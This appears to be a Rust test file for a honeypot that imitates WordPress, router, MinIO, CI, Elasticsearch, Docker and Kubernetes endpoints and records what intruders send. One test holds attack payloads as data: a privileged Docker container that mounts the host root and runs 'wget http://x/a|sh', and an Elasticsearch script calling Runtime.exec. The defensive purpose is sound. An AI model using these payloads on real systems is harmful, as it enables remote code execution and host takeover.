//! What the applications answer, and that nothing breaks them.

use super::Site;
use crate::{
    Http, Persona,
    drive::{self, Heard, said},
    http::HttpSession,
};
use alloc::{
    format,
    string::{String, ToString},
    vec::Vec,
};
use honeymesh_types::Signs;
use proptest::prelude::*;

const ALL: [Site; 10] = [
    Site::Login,
    Site::Plain,
    Site::Basic,
    Site::Wordpress,
    Site::Router,
    Site::ObjectStore,
    Site::Ci,
    Site::Elasticsearch,
    Site::Docker,
    Site::Kubernetes,
];

fn session(site: Site) -> HttpSession {
    Http::of(site, &Persona::of([7; 32]).named("srv01.example.org").unwrap()).session(7)
}

fn ask(site: Site, request: &str) -> Heard {
    drive::whole(&mut session(site), request.as_bytes())
}

fn get(site: Site, path: &str) -> String {
    said(&ask(site, &format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\n\r\n")).answer)
}

fn post(site: Site, path: &str, kind: &str, body: &str) -> Heard {
    let length = body.len();
    ask(
        site,
        &format!("POST {path} HTTP/1.1\r\nHost: shop.example\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n{body}"),
    )
}

fn names(answer: &str) -> Vec<&str> {
    let head = answer.split("\r\n\r\n").next().unwrap_or_default();
    head.lines().skip(1).filter_map(|line| line.split(':').next()).collect()
}

#[test]
fn each_name_is_a_site() {
    for name in Site::NAMES {
        assert!(Site::named(name).is_some(), "{name}");
    }
    assert_eq!((Site::named("docker"), Site::named("")), (None, None));
}

#[test]
fn each_site_answers_its_front_door_and_what_is_not_there() {
    let table = [
        (Site::Login, "/", "200 OK", "Sign in"),
        (Site::Login, "/x", "404 Not Found", "<center>nginx</center>"),
        (Site::Plain, "/", "200 OK", "Welcome to nginx!"),
        (Site::Plain, "/admin", "404 Not Found", "<center>nginx</center>"),
        (Site::Basic, "/", "401 Unauthorized", "WWW-Authenticate: Basic realm=\"Restricted\""),
        (Site::Wordpress, "/", "200 OK", "content=\"WordPress 6.8.12\""),
        (Site::Wordpress, "/nothing", "404 Not Found", "Page not found"),
        (Site::Wordpress, "/%00", "404 Not Found", "<address>Apache/2.4.71 (Debian) Server at shop.example Port 80</address>"),
        (
            Site::Wordpress,
            "/wp-admin/",
            "302 Found",
            "Location: http://shop.example/wp-login.php?redirect_to=http%3A%2F%2Fshop.example%2Fwp-admin%2F&reauth=1",
        ),
        (Site::Wordpress, "/wp-json/wp/v2/users", "200 OK", "\"slug\":\"admin\""),
        (Site::Wordpress, "/?author=1", "301 Moved Permanently", "Location: http://shop.example/author/admin/"),
        (Site::Wordpress, "/xmlrpc.php", "405 Method Not Allowed", "XML-RPC server accepts POST requests only."),
        (Site::Wordpress, "/.htaccess", "403 Forbidden", "You don't have permission"),
        (Site::Router, "/", "200 OK", "cgi-bin/luci/"),
        (Site::Router, "/cgi-bin/luci/", "403 Forbidden", "name=\"luci_password\""),
        (Site::Router, "/HNAP1/", "404 Not Found", "The requested URL /HNAP1/ was not found on this server."),
        (Site::ObjectStore, "/", "403 Forbidden", "<Code>AccessDenied</Code>"),
        (Site::ObjectStore, "/backups/db.sql", "403 Forbidden", "<Key>db.sql</Key><BucketName>backups</BucketName>"),
        (Site::ObjectStore, "/minio/health/live", "200 OK", "Server: MinIO"),
        (Site::Ci, "/", "403 Forbidden", "url=/login?from=%2F'"),
        (Site::Ci, "/login", "200 OK", "name=\"j_username\""),
        (Site::Elasticsearch, "/", "200 OK", "\"tagline\" : \"You Know, for Search\""),
        (Site::Elasticsearch, "/_cat/indices?v", "200 OK", "customers"),
        (Site::Elasticsearch, "/nothing/_search", "404 Not Found", "no such index [nothing]"),
        (Site::Elasticsearch, "/_nodes", "200 OK", "\"name\":\"srv01\""),
        (Site::Docker, "/version", "200 OK", "\"Version\":\"26.1.5+dfsg1\""),
        (Site::Docker, "/v1.45/info", "200 OK", "\"Name\":\"srv01\""),
        (Site::Docker, "/nothing", "404 Not Found", "{\"message\":\"page not found\"}"),
        (Site::Docker, "/v1.45/containers/abc/json", "404 Not Found", "No such container: abc"),
        (Site::Kubernetes, "/version", "200 OK", "\"gitVersion\": \"v1.34.2\""),
        (Site::Kubernetes, "/", "403 Forbidden", "forbidden: User \\\"system:anonymous\\\" cannot get path \\\"/\\\""),
        (
            Site::Kubernetes,
            "/api/v1/namespaces/kube-system/secrets",
            "403 Forbidden",
            "cannot list resource \\\"secrets\\\" in API group \\\"\\\" in the namespace \\\"kube-system\\\"",
        ),
        (Site::Kubernetes, "/healthz", "200 OK", "ok"),
    ];
    for (site, path, status, part) in table {
        let answer = get(site, path);
        assert!(answer.starts_with(&format!("HTTP/1.1 {status}\r\n")), "{site:?} {path}: {answer}");
        assert!(answer.contains(part), "{site:?} {path}: {answer}");
    }
}

/// Apache's as a real 2.4.71 gave them; Docker's and MinIO's as Go sorts them.
#[test]
fn headers_come_in_the_servers_order() {
    let table: [(Site, &str, &[&str]); 5] = [
        (
            Site::Plain,
            "/",
            &["Server", "Date", "Content-Type", "Content-Length", "Last-Modified", "Connection", "ETag", "Accept-Ranges"],
        ),
        (Site::Wordpress, "/.htaccess", &["Date", "Server", "Content-Length", "Content-Type"]),
        (
            Site::Docker,
            "/version",
            &["Api-Version", "Content-Type", "Docker-Experimental", "Ostype", "Server", "Date", "Content-Length"],
        ),
        (Site::Elasticsearch, "/", &["X-elastic-product", "content-type", "content-length"]),
        (
            Site::Router,
            "/cgi-bin/luci/",
            &[
                "Connection",
                "Transfer-Encoding",
                "Keep-Alive",
                "X-LuCI-Login-Required",
                "Content-Type",
                "Cache-Control",
                "Expires",
                "X-Frame-Options",
                "X-XSS-Protection",
                "X-Content-Type-Options",
            ],
        ),
    ];
    for (site, path, expected) in table {
        assert_eq!(names(&get(site, path)), expected, "{site:?}");
    }
    for site in [Site::ObjectStore, Site::Kubernetes] {
        let answer = get(site, "/");
        let names = names(&answer);
        let (sorted, last) = names.split_at(names.iter().position(|name| *name == "Date").unwrap());
        assert!(sorted.is_sorted() && !last.is_empty(), "{names:?}");
    }
}

#[test]
fn credentials_are_taken_from_whatever_they_come_in() {
    let form = "application/x-www-form-urlencoded";
    let call = "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>s3cret</value></param></params></methodCall>";
    let table = [
        (
            Site::Wordpress,
            "/wp-login.php",
            form,
            "log=admin&pwd=s3cret&wp-submit=Log+In",
            "The password you entered for the username",
        ),
        (Site::Wordpress, "/wp-login.php", form, "log=eve&pwd=s3cret", "is not registered on this site"),
        (Site::Wordpress, "/xmlrpc.php", "text/xml", call, "Incorrect username or password."),
        (Site::Router, "/cgi-bin/luci/", form, "luci_username=root&luci_password=s3cret", "Invalid username and/or password!"),
        (
            Site::Ci,
            "/j_spring_security_check",
            form,
            "j_username=admin&j_password=s3cret&from=",
            "Location: http://shop.example/loginError",
        ),
        (Site::Docker, "/auth", "application/json", "{\"username\":\"admin\",\"password\":\"s3cret\"}", "unauthorized"),
    ];
    for (site, path, kind, body, part) in table {
        let heard = post(site, path, kind, body);
        assert!(said(&heard.answer).contains(part), "{site:?}: {}", said(&heard.answer));
        assert!(heard.findings.signs.contains(Signs::CREDENTIALS), "{site:?}");
        assert_eq!(heard.findings.fields["password"], "s3cret");
    }
    let token = ask(Site::Kubernetes, "GET /api HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer eyJhbGciOi.x.y\r\n\r\n");
    assert!(said(&token.answer).starts_with("HTTP/1.1 401 Unauthorized") && token.findings.signs == Signs::CREDENTIALS);
    assert_eq!(token.findings.fields["password"], "eyJhbGciOi.x.y");
}

#[test]
fn what_was_to_be_run_is_taken_down_and_hostile() {
    let body = "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"wget http://x/a|sh\"],\"HostConfig\":{\"Binds\":[\"/:/mnt\"],\"Privileged\":true}}";
    let docker = post(Site::Docker, "/v1.24/containers/create?name=x1", "application/json", body);
    assert!(said(&docker.answer).starts_with("HTTP/1.1 201 Created\r\n"), "{}", said(&docker.answer));
    let fields = &docker.findings.fields;
    assert_eq!((fields["image"].as_str(), fields["privileged"].as_str()), ("alpine", "true"));
    assert_eq!(
        (fields["command"].as_str(), fields["binds"].as_str()),
        ("[\"sh\",\"-c\",\"wget http://x/a|sh\"]", "[\"/:/mnt\"]")
    );
    let script =
        "{\"script_fields\":{\"x\":{\"script\":{\"lang\":\"painless\",\"source\":\"Runtime.getRuntime().exec('id')\"}}}}";
    let elastic = post(Site::Elasticsearch, "/_search", "application/json", script);
    assert_eq!(elastic.findings.fields["script"], "Runtime.getRuntime().exec('id')");
    for heard in [docker, elastic, ask(Site::Elasticsearch, "DELETE /customers HTTP/1.1\r\nHost: a\r\n\r\n")] {
        assert!(heard.findings.signs.contains(Signs::RULE));
    }
    assert!(!ask(Site::Docker, "GET /version HTTP/1.1\r\nHost: a\r\n\r\n").findings.signs.contains(Signs::RULE));
}

/// The text behind the first of `name`, up to a quotation mark.
fn text_of(answer: &str, name: &str) -> String {
    let (_, behind) = answer.split_once(&alloc::format!("\"{name}\":\"")).unwrap_or_else(|| panic!("no {name}: {answer}"));
    behind.split('"').next().unwrap().into()
}

#[test]
fn docker_knows_its_containers_and_those_it_gave_a_number_and_no_others() {
    let order = |path: &str, body: &str| said(&post(Site::Docker, path, "application/json", body).answer);
    let list = get(Site::Docker, "/containers/json");
    let id = text_of(&list, "Id");
    for known in ["web", "/web", &id, &id[..12], &id[..3], "cache"] {
        let inspected = get(Site::Docker, &alloc::format!("/containers/{}/json", known.trim_start_matches('/')));
        assert!(inspected.starts_with("HTTP/1.1 200 OK") && inspected.contains("\"Running\":true"), "{known}: {inspected}");
    }
    let inspected = get(Site::Docker, "/containers/web/json");
    for same in ["Id", "Image", "IPAddress", "MacAddress", "NetworkID"] {
        let (in_list, alone) = (text_of(&list, same), text_of(&inspected, same));
        assert!(in_list == alone || same == "Image", "{same}: {in_list} {alone}");
    }
    assert!(get(Site::Docker, "/networks").contains(&text_of(&inspected, "NetworkID")), "the bridge's own number");
    assert!(get(Site::Docker, "/info").contains("\"ContainersRunning\":2,"), "as many as the list has");
    for image in ["nginx:1.29", "library/nginx:1.29", "docker.io/library/nginx:1.29"] {
        let image = get(Site::Docker, &alloc::format!("/images/{image}/json"));
        assert!(inspected.contains(&text_of(&image, "Id")), "{image}");
    }
    let made = text_of(&order("/containers/create", "{\"Image\":\"alpine\"}"), "Id");
    assert_eq!(made.len(), 64);
    for known in [&made[..], &made[..12]] {
        let started = order(&alloc::format!("/containers/{known}/start"), "{}");
        assert!(started.starts_with("HTTP/1.1 204 No Content"), "{started}");
    }
    let exec = text_of(&order(&alloc::format!("/containers/{made}/exec"), "{\"Cmd\":[\"id\"]}"), "Id");
    let started = order(&alloc::format!("/exec/{exec}/start"), "{}");
    assert!(started.starts_with("HTTP/1.1 101 UPGRADED"), "{started}");
    // Numbers that nobody gave out, in whatever they differ.
    let mut other = made.clone();
    other.replace_range(63.., if made.ends_with('0') { "1" } else { "0" });
    for unknown in ["0123456789ab", &"ab".repeat(32), &other, &exec, "deadbeefcafe"] {
        let started = order(&alloc::format!("/containers/{unknown}/start"), "{}");
        assert!(
            started.contains("404 Not Found")
                && started.ends_with(&alloc::format!("{{\"message\":\"No such container: {unknown}\"}}\n")),
            "{started}"
        );
        let run = order(&alloc::format!("/exec/{unknown}1/start"), "{}");
        assert!(run.contains("No such exec instance"), "{run}");
    }
}

#[test]
fn docker_refuses_what_the_engine_refuses() {
    let order = |path: &str, body: &str| said(&post(Site::Docker, path, "application/json", body).answer);
    let table = [
        (
            "/containers/create?name=web",
            "{\"Image\":\"a\"}",
            "409 Conflict",
            "The container name \\\"/web\\\" is already in use by container",
        ),
        ("/containers/create?name=a%20b", "{\"Image\":\"a\"}", "400 Bad Request", "only [a-zA-Z0-9][a-zA-Z0-9_.-] are allowed"),
        ("/containers/web/start", "{}", "304 Not Modified", ""),
        ("/containers/web/exec", "{}", "400 Bad Request", "No exec command specified"),
        ("/containers/web/exec", "", "400 Bad Request", "No exec command specified"),
        ("/containers/nothing/exec", "{}", "400 Bad Request", "No exec command specified"),
        ("/containers/nothing/wait", "{}", "404 Not Found", "No such container: nothing"),
        ("/containers/nothing/nothing", "{}", "404 Not Found", "page not found"),
        ("/containers/web/nothing", "{}", "404 Not Found", "page not found"),
        ("/images/nothing/json", "{}", "404 Not Found", "page not found"),
    ];
    for (path, body, status, words) in table {
        let answer = order(path, body);
        assert!(answer.starts_with(&alloc::format!("HTTP/1.1 {status}\r\n")) && answer.contains(words), "{path}: {answer}");
    }
    let delete = |what: &str| said(&ask(Site::Docker, &alloc::format!("DELETE {what} HTTP/1.1\r\nHost: a\r\n\r\n")).answer);
    assert!(delete("/containers/cache").contains("cannot remove container \\\"/cache\\\": container is running"));
    assert!(delete("/containers/cache?force=true").starts_with("HTTP/1.1 204"));
    assert!(delete("/images/nginx:1.29").contains("(must force) - container"));
    assert!(
        delete("/images/a/b:1").contains("No such image: a/b:1\"")
            && delete("/images/a/b").contains("No such image: a/b:latest\"")
    );
}

#[test]
fn nothing_that_a_stranger_says_becomes_markup() {
    for site in ALL {
        let path = "/%3Cscript%3E/<script>alert(1)</script>\"'/wp-login.php";
        let answer = get(site, path);
        assert!(!answer.contains("<script>alert"), "{site:?}: {answer}");
        let host = said(&ask(site, "GET /x HTTP/1.1\r\nHost: <script>alert\r\n\r\n").answer);
        assert!(!host.contains("<script>alert"), "{site:?}: {host}");
    }
    let login = post(Site::Wordpress, "/wp-login.php", "application/x-www-form-urlencoded", "log=%3Cscript%3Ealert&pwd=x");
    assert!(!said(&login.answer).contains("<script>alert"));
}

#[test]
fn two_machines_differ_and_one_stays_the_same() {
    let of = |seed: u8| {
        let http = Http::of(Site::Elasticsearch, &Persona::of([seed; 32]));
        said(&drive::whole(&mut http.session(1), b"GET / HTTP/1.1\r\nHost: a\r\n\r\n").answer)
    };
    assert_eq!(of(1), of(1));
    assert_ne!(of(1), of(2));
}

#[test]
fn how_a_client_writes_requests_is_fingerprinted() {
    let of = |request: &str| ask(Site::Plain, request).findings.fields["hm_http"].to_string();
    let one = of("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n");
    // printf 'GET\n1.1\nHost\nUser-Agent\nAccept\n' | sha256sum
    assert_eq!(one, "a778f000c104");
    assert_eq!(
        one,
        of("GET /other HTTP/1.1\r\nHost: b\r\nUser-Agent: y\r\nAccept: z\r\n\r\n"),
        "what stands in them does not matter"
    );
    for other in [
        "GET / HTTP/1.1\r\nHost: a\r\nAccept: */*\r\nUser-Agent: x\r\n\r\n",
        "GET / HTTP/1.1\r\nhost: a\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n",
    ] {
        assert_ne!(one, of(other));
    }
}

fn talk() -> impl Strategy<Value = Vec<u8>> {
    let target = prop_oneof![
        Just("/".to_string()),
        Just("/xmlrpc.php".to_string()),
        Just("/wp-login.php".to_string()),
        Just("/cgi-bin/luci".to_string()),
        Just("/v1.45/containers/create".to_string()),
        Just("/_search".to_string()),
        Just("/_cat/indices?v".to_string()),
        Just("/api/v1/namespaces/a/pods/b".to_string()),
        Just("/containers/x/exec".to_string()),
        "/[!-~]{0,40}",
    ];
    let body = prop_oneof![
        Just("{\"Image\":\"a\",\"Cmd\":[\"".to_string()),
        Just("<methodCall><methodName>system.multicall</methodName>>methodName<<value>".to_string()),
        Just("log=a&pwd=b".to_string()),
        "[ -~]{0,60}",
    ];
    let verb = prop_oneof![Just("GET"), Just("POST"), Just("HEAD"), Just("DELETE"), Just("PUT"), Just("TRACE"), Just("OPTIONS")];
    let kind =
        prop_oneof![Just("application/json"), Just("text/xml"), Just("text/plain"), Just("application/x-www-form-urlencoded")];
    let request = (verb, target, kind, body).prop_map(|(verb, target, kind, body)| {
        format!("{verb} {target} HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    });
    proptest::collection::vec(request, 1..4).prop_map(|requests| requests.concat().into_bytes())
}

proptest! {
    #[test]
    fn no_request_breaks_a_site_and_packets_do_not_matter(site in proptest::sample::select(&ALL[..]), bytes in talk(), cuts in drive::cuts()) {
        drive::law(|| session(site), &bytes, &cuts)?;
    }
}
